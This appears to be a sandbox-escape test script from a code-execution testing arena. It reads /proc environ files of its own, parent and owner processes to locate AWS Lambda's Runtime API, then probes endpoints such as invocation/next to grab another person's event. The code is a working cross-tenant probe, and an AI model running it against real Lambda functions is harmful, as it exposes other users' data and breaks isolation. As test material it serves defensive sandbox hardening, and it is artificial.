# attack: in a Lambda the Runtime API needs no key: /invocation/next gives the next person's event to the script
# expect: sandbox
# validator: refused
import _socket
import os
import re
from pathlib import Path

PATHS = (
    "GET /2018-06-01/runtime/invocation/next",
    "POST /2020-01-01/extension/register",
    "PUT /2022-07-01/telemetry",
    "GET /2018-06-01/ping",
)
# The last is the arena's listener, which stands for a Runtime API where there is none.
places = {("127.0.0.1", 9001), ("127.0.0.1", @TCP_PORT@)}
for process in ("self", os.getppid(), @OWNER_PID@):
    try:
        text = Path(f"/proc/{process}/environ").read_bytes()
    except OSError as error:
        print(process, error)
        continue
    for host, port in re.findall(rb"AWS_LAMBDA_RUNTIME_API=([^:\0]+):(\d+)", text):
        places.add((host.decode(), int(port)))
        print("ESCAPED: process", process, "says where its Runtime API is", flush=True)
for variable in ("AWS_LAMBDA_RUNTIME_API", "_HANDLER", "AWS_LAMBDA_FUNCTION_NAME", "LAMBDA_TASK_ROOT"):
    if variable in os.environ:
        print("ESCAPED: the function's variable is here:", variable, flush=True)


def ask(address, line):
    made = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
    made.settimeout(0.2)
    made.connect(address)
    made.sendall(
        f"{line} HTTP/1.1\r\nHost: {address[0]}\r\nLambda-Extension-Name: attack\r\nContent-Length: 0\r\n\r\n".encode()
    )
    answer = made.recv(4096)
    if answer:
        print("ESCAPED: the Runtime API says", answer[:15], flush=True)


for address in sorted(places):
    for line in PATHS:
        try:
            ask(address, line)
        except OSError as error:
            print(address, line, error)

# And by way of the relay, which is a function's process and could reach its own.
try:
    import requests

    for host in ("127.0.0.1:9001", "localhost:9001"):
        answer = requests.get(f"http://{host}/2018-06-01/runtime/invocation/next", timeout=0.3)
        print("ESCAPED: an event:", answer.text[:60], flush=True)
except Exception as error:
    print(type(error).__name__, str(error)[-100:])
